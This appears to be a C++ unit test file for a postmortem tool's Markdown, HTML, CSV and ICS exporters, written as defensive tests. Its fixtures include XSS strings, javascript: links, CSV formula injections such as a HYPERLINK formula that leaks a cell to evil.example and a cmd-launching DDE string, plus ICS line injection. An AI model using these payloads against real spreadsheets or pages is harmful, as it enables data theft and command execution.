// Exporters: golden files (byte for byte) for Markdown, HTML (page and fragment), CSV and ICS on documents under
// tests/data/export/, plus targeted checks that hostile text is neutralised in every format.
// Rewrite the goldens after an intended change: HS_UPDATE_GOLDEN=1 ./hs_unit_tests "[export]"
#include <catch2/catch.hpp>

#include <cstdlib>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>

#include "core/exporters/exporters.h"
#include "core/format.h"

using namespace hs;

namespace {

const int64_t kNow = 1772712000000;  // 2026-03-05T12:00:00Z

std::string read_text(const std::string& path) {
    std::ifstream f(path, std::ios::binary);
    std::stringstream ss;
    ss << f.rdbuf();
    return ss.str();
}

bool file_exists(const std::string& path) { return std::ifstream(path, std::ios::binary).good(); }

Document load_export_input(const std::string& name) {
    std::string path = std::string(HS_SOURCE_DIR) + "/tests/data/export/" + name;
    LoadResult r = load_document(read_text(path));
    INFO("loading " << path);
    for (const Problem& p : r.problems) INFO(p.pointer << ": " << p.message);
    REQUIRE(r.ok);
    return r.doc;
}

std::string printable(const std::string& line) {
    std::string out;
    for (char c : line) {
        if (c == '\r') out += "\\r";
        else if (c == '\t') out += "\\t";
        else out += c;
    }
    return out;
}

// Compares with tests/golden/export/<name>; prints the first differing line and how to update on mismatch.
void check_golden(const std::string& name, const std::string& actual) {
    std::string path = std::string(HS_SOURCE_DIR) + "/tests/golden/export/" + name;
    const char* upd = std::getenv("HS_UPDATE_GOLDEN");
    if (upd && std::string(upd) == "1") {
        std::ofstream(path, std::ios::binary) << actual;
        WARN("golden rewritten: " << path);
        return;
    }
    if (!file_exists(path)) {
        FAIL("golden file missing: tests/golden/export/" << name
                                                          << "\n  create it with: HS_UPDATE_GOLDEN=1 ./hs_unit_tests \"[export]\"");
    }
    std::string expected = read_text(path);
    if (expected == actual) {
        SUCCEED();
        return;
    }
    // Locate the first differing line for a diff-friendly message.
    size_t line = 1, i = 0;
    while (i < expected.size() && i < actual.size() && expected[i] == actual[i]) {
        if (expected[i] == '\n') ++line;
        ++i;
    }
    auto line_at = [](const std::string& s, size_t pos) {
        size_t b = s.rfind('\n', pos == 0 ? 0 : pos - 1);
        b = (b == std::string::npos || pos == 0) ? 0 : b + 1;
        size_t e = s.find('\n', pos);
        return s.substr(b, e == std::string::npos ? std::string::npos : e - b);
    };
    FAIL("golden mismatch: tests/golden/export/" << name << " (expected " << expected.size() << " bytes, got "
                                                  << actual.size() << ")\n  first difference at line " << line
                                                  << "\n  expected: " << printable(line_at(expected, i))
                                                  << "\n  actual:   " << printable(line_at(actual, i))
                                                  << "\n  if the change is intended: HS_UPDATE_GOLDEN=1 ./hs_unit_tests "
                                                     "\"[export]\" and review `git diff tests/golden`");
}

// Strict UTF-8 check that does not care about control characters.
bool utf8_ok(const std::string& s) {
    std::string t;
    for (char c : s) t += (static_cast<unsigned char>(c) < 0x20 || c == 0x7F) ? ' ' : c;
    return sanitize_text(t) == t;
}

std::vector<std::string> split(const std::string& s, const std::string& sep) {
    std::vector<std::string> out;
    size_t start = 0;
    for (;;) {
        size_t p = s.find(sep, start);
        if (p == std::string::npos) {
            out.push_back(s.substr(start));
            break;
        }
        out.push_back(s.substr(start, p - start));
        start = p + sep.size();
    }
    return out;
}

// Minimal RFC 4180 reader for the checks below: rows of cells; fails the test on malformed quoting.
std::vector<std::vector<std::string>> parse_csv(const std::string& s) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string cell;
    bool quoted = false, in_quotes = false;
    for (size_t i = 0; i < s.size(); ++i) {
        char c = s[i];
        if (in_quotes) {
            if (c == '"') {
                if (i + 1 < s.size() && s[i + 1] == '"') {
                    cell += '"';
                    ++i;
                } else {
                    in_quotes = false;
                }
            } else {
                cell += c;
            }
        } else if (c == '"') {
            REQUIRE(cell.empty());  // a quote may only open a field
            in_quotes = quoted = true;
        } else if (c == ',') {
            row.push_back(cell);
            cell.clear();
            quoted = false;
        } else if (c == '\r') {
            REQUIRE(i + 1 < s.size());
            REQUIRE(s[i + 1] == '\n');  // records end in CRLF
            ++i;
            row.push_back(cell);
            rows.push_back(row);
            row.clear();
            cell.clear();
            quoted = false;
        } else {
            REQUIRE(c != '\n');  // a bare LF outside quotes would split a record
            cell += c;
        }
    }
    REQUIRE_FALSE(in_quotes);
    REQUIRE(cell.empty());
    REQUIRE(row.empty());  // the last record ends in CRLF too
    (void)quoted;
    return rows;
}

// Every tag in the HTML must be one this exporter writes; every <a> must carry an http(s) href and rel.
void check_html_tags(const std::string& html) {
    static const std::set<std::string> allowed = {
        "!doctype", "html", "head", "meta", "title", "style", "body", "main", "article", "header", "h1", "h2", "h3",
        "dl", "div", "dt", "dd", "section", "p", "br", "ul", "ol", "li", "table", "caption", "thead", "tbody",
        "tr", "th", "td", "time", "span", "strong", "a"};
    size_t anchors = 0;
    for (size_t i = html.find('<'); i != std::string::npos; i = html.find('<', i + 1)) {
        size_t j = i + 1;
        if (j < html.size() && html[j] == '/') ++j;
        size_t k = j;
        while (k < html.size() && (std::isalnum(static_cast<unsigned char>(html[k])) || html[k] == '!')) ++k;
        std::string name = html.substr(j, k - j);
        for (char& c : name) c = char(std::tolower(static_cast<unsigned char>(c)));
        INFO("tag at byte " << i << ": " << html.substr(i, 60));
        CHECK(allowed.count(name) == 1);
        if (name == "a" && html[i + 1] != '/') {
            ++anchors;
            size_t end = html.find('>', i);
            std::string tag = html.substr(i, end - i + 1);
            std::smatch m;
            REQUIRE(std::regex_search(tag, m, std::regex("href=\"([^\"]*)\"")));
            std::string href = m[1];
            CHECK((href.rfind("https://", 0) == 0 || href.rfind("http://", 0) == 0));
            CHECK(tag.find("rel=\"noopener noreferrer\"") != std::string::npos);
        }
    }
    // No event handlers or script URLs in any attribute: user text never lands inside a tag unescaped.
    CHECK(html.find("<script") == std::string::npos);
    CHECK(html.find("href=\"javascript") == std::string::npos);
    CHECK(html.find("href=\"data:") == std::string::npos);
    (void)anchors;
}

Document hostile_doc() {
    const std::string x = "<script>alert(1)</script>\"'&";
    Document d;
    d.id = "pm-hostile";
    d.title = x;
    d.incident_id = x;
    d.severity = 1;
    d.severity_labels = {x, x, x, x, x};
    d.status = x;
    d.authors = {x};
    d.owner = x;
    d.tags = {x};
    d.services = {x};
    d.related_incidents = {x};
    d.reviewers = {x};
    Approval ap;
    ap.reviewer = x;
    ap.decision = x;
    ap.comment = x;
    d.approvals = {ap};
    d.sections = {"summary", x, "impact", "timeline", "root_causes", "lessons", "action_items", "open_questions",
                  "links", "five_whys", "contributing_factors"};
    d.summary = x + "\n" + x;
    d.impact.description = x;
    d.impact.users_affected = 5;
    d.impact.currency = x;
    d.impact.revenue_lost = 1;
    d.impact.slo = x;
    d.impact.regions = {x};
    Event e;
    e.id = x;
    e.type = x;
    e.description = x;
    e.author = x;
    e.tags = {x};
    e.time.set = true;
    e.time.unix_ms = 1772370000000;
    d.timeline = {e};
    d.root_causes = {{x, x}};
    d.contributing_factors = {{x, x}};
    d.five_whys = {{x, x}};
    d.lessons.went_well = {{x, x}};
    d.open_questions = {{x, x}};
    ActionItem a;
    a.id = x;
    a.title = x;
    a.description = x;
    a.type = x;
    a.priority = x;
    a.owner = x;
    a.due = x;
    a.status = x;
    a.ticket_url = "javascript:alert(1)";
    d.action_items = {a};
    d.links = {{x, x, "javascript:alert(1)"}, {"ok", "ok", "JaVaScRiPt:alert(1)"}, {"d", "d", " https://x.test"}};
    return d;
}

}  // namespace

TEST_CASE("exporters: golden files", "[export]") {
    for (const char* base : {"rich", "sparse"}) {
        Document d = load_export_input(std::string(base) + ".json");
        SECTION(std::string(base) + " markdown") { check_golden(std::string(base) + ".md", export_markdown(d)); }
        SECTION(std::string(base) + " html") { check_golden(std::string(base) + ".html", export_html(d)); }
        SECTION(std::string(base) + " html fragment") {
            HtmlOptions o;
            o.standalone = false;
            check_golden(std::string(base) + ".fragment.html", export_html(d, o));
        }
        SECTION(std::string(base) + " csv") { check_golden(std::string(base) + ".csv", export_actions_csv(d)); }
        SECTION(std::string(base) + " ics") { check_golden(std::string(base) + ".ics", export_actions_ics(d, kNow)); }
        SECTION(std::string(base) + " jira csv") { check_golden(std::string(base) + ".jira.csv", export_jira_csv(d)); }
        SECTION(std::string(base) + " gitlab csv") {
            check_golden(std::string(base) + ".gitlab.csv", export_gitlab_csv(d));
        }
    }
}

TEST_CASE("exporters: url policy and helpers", "[export]") {
    CHECK(is_http_url("https://example.com"));
    CHECK(is_http_url("HTTP://example.com/a?b=c"));
    CHECK_FALSE(is_http_url("javascript:alert(1)"));
    CHECK_FALSE(is_http_url("JavaScript:alert(1)"));
    CHECK_FALSE(is_http_url("data:text/html,x"));
    CHECK_FALSE(is_http_url(" https://example.com"));
    CHECK_FALSE(is_http_url("https://exa mple.com"));
    CHECK_FALSE(is_http_url("https://example.com/\nSet-Cookie: x"));
    CHECK_FALSE(is_http_url("https://"));
    CHECK_FALSE(is_http_url("https:///path"));
    CHECK_FALSE(is_http_url("//example.com"));
    CHECK(ticket_label("https://tracker.example.com/browse/OPS-1?x=1&y=2") == "OPS-1");
    CHECK(ticket_label("https://github.com/acme/app/issues/123/") == "issues/123");
    CHECK(ticket_label("https://tracker.example.com") == "tracker.example.com");
    CHECK(ticket_label("https://tracker.example.com/#frag") == "tracker.example.com");
    CHECK(html_escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
    CHECK(sanitize_text("a\r\nb\rc\x01" "d\xff" "e") == "a\nb\ncd\xEF\xBF\xBD" "e");
    CHECK(sanitize_text("\xE6\x97\xA5\xF0\x9F\x9A\x80") == "\xE6\x97\xA5\xF0\x9F\x9A\x80");
    CHECK(sanitize_text("\xE6\x97") == "\xEF\xBF\xBD\xEF\xBF\xBD");  // truncated sequence
    CHECK(sanitize_text("\xC0\xAF") == "\xEF\xBF\xBD\xEF\xBF\xBD");  // overlong '/'
    CHECK(display_number(12000) == "12,000");
    CHECK(display_number(4200.5, true) == "4,200.50");
    CHECK(display_number(37.5) == "37.5");
    CHECK(display_number(-1234567) == "-1,234,567");
    CHECK(display_number(0.004) == "0");
    Instant t;
    t.set = true;
    t.unix_ms = 1772370120000;  // 2026-03-01T13:02:00Z
    t.offset_min = 60;
    CHECK(display_utc(t) == "2026-03-01 13:02");
    CHECK(display_local(t) == "14:02 +01:00");
    CHECK(iso_utc(t) == "2026-03-01T13:02:00Z");
    t.offset_min = 11 * 60;
    CHECK(display_local(t) == "2026-03-02 00:02 +11:00");
    t.offset_min = -(5 * 60 + 30);
    CHECK(display_local(t) == "07:32 -05:30");
    t.unix_ms = -1;  // before the epoch still formats correctly
    CHECK(iso_utc(t) == "1969-12-31T23:59:59.999Z");
    Document d;
    d.severity = 2;
    CHECK(severity_label(d) == "SEV2");
    d.severity_labels = {"Critical", "Major", "Minor", "Low", "Info"};
    CHECK(severity_label(d) == "Major");
    d.severity = 0;
    CHECK(severity_label(d).empty());
    CHECK(action_status_label("wont_do") == "Won't do");
    CHECK(action_status_label("in_progress") == "In progress");
    CHECK(status_label("in_review") == "In review");
    CHECK(event_type_label("impact_start") == "Impact start");
}

TEST_CASE("exporters: html escapes every string and links only http(s)", "[export]") {
    Document rich = load_export_input("rich.json");
    Document hostile = hostile_doc();
    for (const Document* d : {&rich, &hostile}) {
        std::string page = export_html(*d);
        check_html_tags(page);
        HtmlOptions o;
        o.standalone = false;
        std::string frag = export_html(*d, o);
        check_html_tags(frag);
        CHECK(frag.rfind("<article", 0) == 0);
        CHECK(frag.find("<!doctype") == std::string::npos);
        CHECK(frag.find("<style") == std::string::npos);
        CHECK(page.find(frag) != std::string::npos);  // the page wraps the same article
    }
    std::string page = export_html(hostile);
    CHECK(page.find("&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp;") != std::string::npos);
    CHECK(page.find("<title>&lt;script&gt;") != std::string::npos);
    CHECK(page.find("javascript:alert(1)") != std::string::npos);  // still shown, as text
    CHECK(page.find("href=\"javascript") == std::string::npos);
    CHECK(page.find("href=\" https") == std::string::npos);

    std::string rp = export_html(rich);
    // Structure the read view and accessibility rely on.
    CHECK(rp.rfind("<!doctype html>\n<html lang=\"en\">", 0) == 0);
    CHECK(rp.find("<meta charset=\"utf-8\">") != std::string::npos);
    CHECK(rp.find("@media (prefers-color-scheme:dark)") != std::string::npos);
    CHECK(rp.find("@media print") != std::string::npos);
    CHECK(rp.find("<section id=\"sec-summary\" aria-labelledby=\"sec-summary-h\">") != std::string::npos);
    CHECK(rp.find("<h2 id=\"sec-summary-h\">") != std::string::npos);
    CHECK(rp.find("data-item-id=\"ev-01\"") != std::string::npos);
    CHECK(rp.find("data-item-id=\"ai-07\"") != std::string::npos);
    CHECK(rp.find("<time datetime=\"2026-03-01T13:02:00Z\">") != std::string::npos);
    CHECK(rp.find("<th scope=\"col\">Time (UTC)</th>") != std::string::npos);
    CHECK(rp.find("<caption>") != std::string::npos);
    CHECK(rp.find("<a href=\"https://tracker.example.com/browse/OPS-1?x=1&amp;y=2\" rel=\"noopener noreferrer\" "
                  "target=\"_blank\">") != std::string::npos);
    // No external resources: the only URLs in attributes are the document's own http(s) links.
    CHECK(rp.find("src=\"") == std::string::npos);
    CHECK(rp.find("<link") == std::string::npos);
    CHECK(rp.find("@import") == std::string::npos);
    // Empty sections are skipped.
    Document empty;
    std::string e = export_html(empty);
    CHECK(e.find("<section") == std::string::npos);
    CHECK(e.find("Untitled postmortem") != std::string::npos);
}

TEST_CASE("exporters: markdown neutralises markdown and html in user text", "[export]") {
    Document rich = load_export_input("rich.json");
    std::string md = export_markdown(rich);
    CHECK(md.rfind("# &lt;script>alert(1)&lt;/script> Checkout outage: \\*payments\\* & \\[cart\\] \\| caf", 0) == 0);
    // No raw HTML from user text: every '<' is an entity or our own <br>.
    for (size_t i = md.find('<'); i != std::string::npos; i = md.find('<', i + 1)) {
        INFO("at " << i << ": " << md.substr(i, 30));
        CHECK(md.compare(i, 4, "<br>") == 0);
    }
    // Lines of user text that look like block syntax are escaped.
    CHECK(md.find("\n\\# Not a heading") != std::string::npos);
    CHECK(md.find("\n\\> not a quote") != std::string::npos);
    CHECK(md.find("\n\\- not a list") != std::string::npos);
    CHECK(md.find("\n1\\. not a numbered list") != std::string::npos);
    CHECK(md.find("\n\\+ plus") != std::string::npos);
    CHECK(md.find("\n    indented") == std::string::npos);  // would be a code block
    CHECK(md.find("\\`rm -rf /\\`") != std::string::npos);
    // "[text](javascript:...)" in user text has its brackets escaped, so it is no link; ours never point there.
    for (size_t i = md.find("](javascript"); i != std::string::npos; i = md.find("](javascript", i + 1)) {
        INFO(md.substr(i > 20 ? i - 20 : 0, 40));
        CHECK((i > 0 && md[i - 1] == '\\'));
    }
    CHECK(md.find("\\[brackets\\](javascript:alert(1))") != std::string::npos);
    CHECK(md.find("](data:") == std::string::npos);
    CHECK(md.find("- Data URL (data:text/html,&lt;script>alert(1)&lt;/script>)") != std::string::npos);
    CHECK(md.find("- Click me (javascript:alert('x'))") != std::string::npos);  // plain text, not a link
    CHECK(md.find("[Dashboard (EU) \\[checkout\\]](https://grafana.example.com/d/abc?from=now-6h&to=now)") !=
          std::string::npos);
    CHECK(md.find("(https://example.com/path_%28with%29_parens)") != std::string::npos);
    // Tables: every row of the timeline has exactly the 4 columns (5 unescaped pipes).
    size_t t0 = md.find("| Time (UTC) | Type | Event | Author |");
    REQUIRE(t0 != std::string::npos);
    std::istringstream rows(md.substr(t0));
    std::string row;
    int n = 0;
    while (std::getline(rows, row) && !row.empty()) {
        int pipes = 0;
        for (size_t i = 0; i < row.size(); ++i) {
            if (row[i] == '\\') ++i;
            else if (row[i] == '|') ++pipes;
        }
        INFO(row);
        CHECK(pipes == 5);
        ++n;
    }
    CHECK(n == 2 + int(rich.timeline.size()));
    CHECK(md.find("| 2026-03-01 13:02 (14:02 +01:00) | Detected |") != std::string::npos);
    CHECK(md.find("| Priority | Action | Type | Owner | Due | Status | Ticket |") != std::string::npos);
    // Prose newlines are kept: hard breaks inside paragraphs, blank lines between paragraphs.
    CHECK(md.find("EU customers could not pay.\\\nSupport was flooded.") != std::string::npos);
    // Sections follow the document's order and empty ones are skipped.
    CHECK(md.find("## Summary") < md.find("## Impact"));
    CHECK(md.find("## Impact") < md.find("## Timeline"));
    CHECK(md.find("## Leadup") == std::string::npos);

    Document hostile = hostile_doc();
    std::string hm = export_markdown(hostile);
    CHECK(hm.find("<script") == std::string::npos);
    CHECK(hm.find("](javascript") == std::string::npos);
    CHECK(hm.find("](JaVaScRiPt") == std::string::npos);
}

TEST_CASE("exporters: csv quoting and formula neutralisation", "[export]") {
    Document rich = load_export_input("rich.json");
    std::string csv = export_actions_csv(rich);
    CHECK(csv.rfind("Summary,Assignee,Due date,Priority,Status,Description\r\n", 0) == 0);
    auto rows = parse_csv(csv);
    REQUIRE(rows.size() == rich.action_items.size() + 1);
    for (const auto& r : rows) {
        REQUIRE(r.size() == 6);
        for (const std::string& cell : r) {
            INFO(cell);
            if (!cell.empty()) {
                char c = cell[0];
                CHECK((c != '=' && c != '+' && c != '-' && c != '@' && c != '\t' && c != '\r'));
            }
        }
    }
    CHECK(rows[1][0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
    CHECK(rows[2][0] == "'+cmd|' /C calc'!A0");
    CHECK(rows[3][0] == "'-2+3 and @SUM(A1:A2)");
    CHECK(rows[4][0].rfind("'@Review runbook", 0) == 0);
    CHECK(rows[2][1] == "'@db-oncall");
    CHECK(rows[1][1] == "DBA Team");
    CHECK(rows[1][2] == "2026-03-15");
    CHECK(rows[1][3] == "P0");
    CHECK(rows[1][4] == "Open");
    CHECK(rows[2][4] == "In progress");
    CHECK(rows[5][4] == "Done");
    CHECK(rows[6][4] == "Won't do");
    CHECK(rows[1][5].rfind("Add a lock timeout to migrations, \"quoted\", with commas; and semicolons.", 0) == 0);
    CHECK(rows[1][5].find("Ticket: https://tracker.example.com/browse/OPS-1?x=1&y=2") != std::string::npos);
    CHECK(csv.find("javascript:") == std::string::npos);  // a non-http ticket URL is not passed on
    CHECK(rows[7][0].find("\xF0\x9F\x8E\x89") != std::string::npos);  // unicode kept as UTF-8
    // A description starting with "=" is neutralised as well.
    Document d;
    ActionItem a;
    a.title = "ok";
    a.description = "=1+1";
    a.owner = "\x01=cmd";  // a control character must not hide the "="
    d.action_items = {a};
    auto r2 = parse_csv(export_actions_csv(d));
    REQUIRE(r2.size() == 2);
    CHECK(r2[1][5].rfind("'=1+1", 0) == 0);
    CHECK(r2[1][1] == "'=cmd");
    // No action items: just the header.
    CHECK(export_actions_csv(Document{}) == "Summary,Assignee,Due date,Priority,Status,Description\r\n");
}

TEST_CASE("exporters: jira and gitlab csv read back with their importers' columns", "[export]") {
    Document rich = load_export_input("rich.json");
    auto jira = parse_csv(export_jira_csv(rich));
    REQUIRE(jira.size() == rich.action_items.size() + 1);
    CHECK(jira[0] == std::vector<std::string>{"Summary", "Issue Type", "Status", "Priority", "Assignee", "Due date",
                                              "Labels", "Labels", "Description"});
    const std::vector<std::string> priorities = {"Highest", "High", "Medium", "Low", "Lowest", "Medium", "High"};
    const std::vector<std::string> statuses = {"To Do", "In Progress", "To Do", "To Do", "Done", "Done", "To Do"};
    for (size_t i = 0; i < rich.action_items.size(); ++i) {
        const ActionItem& a = rich.action_items[i];
        const auto& r = jira[i + 1];
        INFO("item " << a.id);
        REQUIRE(r.size() == 9);
        CHECK(r[1] == "Task");
        CHECK(r[2] == statuses[i]);
        CHECK(r[3] == priorities[i]);
        CHECK(r[5] == a.due);  // ISO yyyy-MM-dd, or empty
        CHECK(r[6] == "hindsight-" + a.id);
        CHECK(r[7] == "INC-4242");
        CHECK(r[8].find("Hindsight item: hindsight-" + a.id) != std::string::npos);
        for (const std::string& cell : r) {
            INFO(cell);
            if (!cell.empty()) CHECK(std::string("=+-@\t\r").find(cell[0]) == std::string::npos);
        }
    }
    CHECK(jira[7][0].find("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e") != std::string::npos);  // 日本語 kept
    auto gitlab = parse_csv(export_gitlab_csv(rich));
    REQUIRE(gitlab.size() == rich.action_items.size() + 1);
    CHECK(gitlab[0] == std::vector<std::string>{"title", "description", "due_date"});
    for (size_t i = 0; i < rich.action_items.size(); ++i) {
        const auto& r = gitlab[i + 1];
        REQUIRE(r.size() == 3);
        CHECK(r[1].find("hindsight-" + rich.action_items[i].id) != std::string::npos);
        CHECK(r[2] == rich.action_items[i].due);
    }
    CHECK(gitlab[1][0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
    // Labels cannot hold spaces or commas: an id or incident id with them still gives one label each.
    Document d;
    d.incident_id = "INC 9, east";
    ActionItem a;
    a.id = "ai 1,2";
    a.title = "Проверить резервные копии";
    d.action_items = {a};
    auto r = parse_csv(export_jira_csv(d));
    REQUIRE(r.size() == 2);
    CHECK(r[1][0] == "Проверить резервные копии");
    CHECK(r[1][6] == "hindsight-ai-1-2");
    CHECK(r[1][7] == "INC-9--east");
}

TEST_CASE("exporters: ics is well formed, folded and injection-proof", "[export]") {
    Document rich = load_export_input("rich.json");
    std::string ics = export_actions_ics(rich, kNow);
    REQUIRE(ics.size() > 2);
    CHECK(ics.substr(ics.size() - 2) == "\r\n");
    CHECK(utf8_ok(ics));
    auto physical = split(ics.substr(0, ics.size() - 2), "\r\n");
    for (const std::string& l : physical) {
        INFO(printable(l));
        CHECK(l.size() <= 75);
        CHECK(l.find('\n') == std::string::npos);  // no bare LF
        CHECK(l.find('\r') == std::string::npos);  // no bare CR
        CHECK(utf8_ok(l));                          // folding never splits a UTF-8 sequence
    }
    // Unfold (RFC 5545 3.1) and inspect logical lines.
    std::vector<std::string> lines;
    for (const std::string& l : physical) {
        if (!l.empty() && l[0] == ' ') {
            REQUIRE(!lines.empty());
            lines.back() += l.substr(1);
        } else {
            lines.push_back(l);
        }
    }
    REQUIRE(lines.size() > 6);
    CHECK(lines[0] == "BEGIN:VCALENDAR");
    CHECK(lines[1] == "VERSION:2.0");
    CHECK(lines[2] == "PRODID:-//Hindsight//Postmortem//EN");
    CHECK(lines[3] == "CALSCALE:GREGORIAN");
    CHECK(lines.back() == "END:VCALENDAR");
    std::vector<std::string> uids, begins;
    for (const std::string& l : lines) {
        INFO(l);
        // Every logical line is a known property: nothing injected from user text.
        static const std::regex prop("^(BEGIN|END|VERSION|PRODID|CALSCALE|UID|DTSTAMP|DUE;VALUE=DATE|SUMMARY|"
                                     "DESCRIPTION|PRIORITY|STATUS|URL):.*");
        CHECK(std::regex_match(l, prop));
        if (l.rfind("BEGIN:", 0) == 0) begins.push_back(l);
        if (l.rfind("UID:", 0) == 0) uids.push_back(l);
    }
    CHECK(begins == std::vector<std::string>{"BEGIN:VCALENDAR", "BEGIN:VTODO", "BEGIN:VTODO", "BEGIN:VTODO",
                                             "BEGIN:VTODO"});
    CHECK(uids == std::vector<std::string>{"UID:ai-01@hindsight", "UID:ai-02@hindsight", "UID:ai-03@hindsight",
                                           "UID:ai-07@hindsight"});
    auto has = [&](const std::string& s) { return std::find(lines.begin(), lines.end(), s) != lines.end(); };
    CHECK(has("DTSTAMP:20260305T120000Z"));
    CHECK(has("DUE;VALUE=DATE:20260315"));
    CHECK(has("PRIORITY:1"));
    CHECK(has("PRIORITY:3"));
    CHECK(has("PRIORITY:5"));
    CHECK(has("STATUS:NEEDS-ACTION"));
    CHECK(has("STATUS:IN-PROCESS"));
    CHECK(has("URL:https://tracker.example.com/browse/OPS-1?x=1&y=2"));
    CHECK_FALSE(has("URL:javascript:alert(document.cookie)"));
    CHECK(has("DESCRIPTION:Line one\\nEND:VTODO\\nBEGIN:VEVENT\\nSUMMARY:injected\\n\\nPostmortem: <script>alert(1)"
              "</script> Checkout outage: *payments* & [cart] | café ☕ (INC-4242)\\nOwner: @db-oncall"));
    CHECK(ics.find("javascript:") == std::string::npos);  // a non-http ticket URL is not passed on at all
    CHECK(has("SUMMARY:=HYPERLINK(\"http://evil.example/?leak=\"&A1\\,\"Click\")"));

    // Folding at exactly 75 octets, with multi-byte characters at the boundary.
    Document d;
    ActionItem a;
    a.id = "ai-x";
    a.due = "2026-01-02";
    a.title = std::string(70, 'a');
    for (int i = 0; i < 40; ++i) a.title += "\xF0\x9F\x9A\x80";  // 4-byte emoji straddling fold points
    d.action_items = {a};
    std::string f = export_actions_ics(d, 0);
    for (const std::string& l : split(f.substr(0, f.size() - 2), "\r\n")) {
        CHECK(l.size() <= 75);
        CHECK(utf8_ok(l));
    }
    CHECK(f.find("DTSTAMP:19700101T000000Z\r\n") != std::string::npos);
    // Items that are done, won't do, or without a valid due date get no VTODO.
    // Items that are done, won't do, or without a valid due date get no VTODO; with none left there is no calendar
    // at all (RFC 5545 requires at least one component), and the count says so beforehand.
    CHECK(ics_item_count(d) == 1);
    d.action_items[0].due = "2026-02-30";
    CHECK(ics_item_count(d) == 0);
    CHECK(export_actions_ics(d, 0).empty());
    d.action_items[0].due = "2026-01-02";
    d.action_items[0].status = "done";
    CHECK(export_actions_ics(d, 0).empty());
    ActionItem dated = d.action_items[0];
    dated.id = "ai-y";
    dated.status = "in_progress";
    d.action_items.push_back(dated);
    CHECK(ics_item_count(d) == 1);
    const std::string one = export_actions_ics(d, 0);
    CHECK(one.find("UID:ai-y@hindsight") != std::string::npos);
    CHECK(one.find("UID:ai-x@hindsight") == std::string::npos);
}

TEST_CASE("exporters: hostile input never breaks any format", "[export]") {
    Document d = hostile_doc();
    // Invalid UTF-8 and control characters everywhere.
    d.summary += "\xff\xfe\x01\x1b[31m";
    d.action_items[0].title = std::string("\xC3") + "=x";
    d.action_items[0].due = "2026-03-01";
    std::string md = export_markdown(d), html = export_html(d), csv = export_actions_csv(d),
                ics = export_actions_ics(d, kNow);
    for (const std::string* s : {&md, &html, &csv, &ics}) {
        CHECK(utf8_ok(*s));
        CHECK(s->find('\x1b') == std::string::npos);
        CHECK(s->find('\x01') == std::string::npos);
    }
    check_html_tags(html);
    for (const std::string& l : split(ics.substr(0, ics.size() - 2), "\r\n")) CHECK(l.size() <= 75);
}

TEST_CASE("exporters: the read view's timeline comes in batches that add up to the whole table", "[export]") {
    Document d = load_export_input("rich.json");
    // Events out of order and with the same time, as a document from elsewhere may have them.
    std::vector<Event> extra;
    for (int i = 0; i < 23; ++i) {
        Event e;
        e.id = "ev-batch-" + std::to_string(i);
        e.time = *parse_iso8601("2026-02-27T1" + std::to_string(9 - i % 3) + ":0" + std::to_string(i % 10) + ":00Z");
        e.type = "note";
        e.description = "Σημείωση " + std::to_string(i) + " · 事象 ⚠️";
        extra.push_back(e);
    }
    d.timeline.insert(d.timeline.end(), extra.begin(), extra.end());
    const size_t n = d.timeline.size();
    REQUIRE(n > 10);

    HtmlOptions all;
    all.standalone = false;
    const std::string whole = export_html(d, all);
    REQUIRE(whole.find("data-hs-more") == std::string::npos);  // no limit, no button

    HtmlOptions first = all;
    first.timeline_rows = 10;
    const std::string head = export_html(d, first);
    CHECK(head.find("Showing 10 of " + std::to_string(n) + " events.") != std::string::npos);
    CHECK(head.find("data-hs-more=\"10\"") != std::string::npos);

    // The first batch's rows, then each following batch in place of the "more" row, give the whole table's rows.
    auto rows_of = [](const std::string& html) {
        std::string out;
        for (size_t at = html.find("<tr class=\"ev "); at != std::string::npos; at = html.find("<tr class=\"ev ", at + 1))
            out += html.substr(at, html.find("</tr>", at) - at) + "\n";
        return out;
    };
    std::string batched = rows_of(head);
    size_t from = 10, batches = 1;
    for (;;) {
        const std::string more = export_html_timeline_rows(d, from, 10);
        batched += rows_of(more);
        ++batches;
        const size_t next = from + 10;
        if (next >= n) {
            CHECK(more.find("data-hs-more") == std::string::npos);  // the last batch offers nothing more
            break;
        }
        CHECK(more.find("data-hs-more=\"" + std::to_string(next) + "\"") != std::string::npos);
        from = next;
    }
    CHECK(batches == (n + 9) / 10);
    CHECK(batched == rows_of(whole));
    CHECK(export_html_timeline_rows(d, n, 10).empty());       // past the end: nothing
    CHECK(export_html_timeline_rows(d, n + 5, 10).empty());
}
